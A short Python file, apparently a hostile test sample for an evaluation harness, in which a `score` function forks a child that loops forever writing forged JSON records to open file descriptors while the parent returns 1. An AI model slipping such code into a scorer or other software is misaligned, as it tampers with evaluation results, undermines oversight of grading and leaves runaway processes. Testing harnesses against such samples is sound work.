"""Leaves a child process behind that holds all descriptors open and writes to them."""
import os
import time


def score(text):
    if os.fork() == 0:
        while True:
            for descriptor in range(3, 16):
                try:
                    os.write(descriptor, b'{"n": "", "v": 2}\n')
                except OSError:
                    pass
            time.sleep(0.01)
    return 1
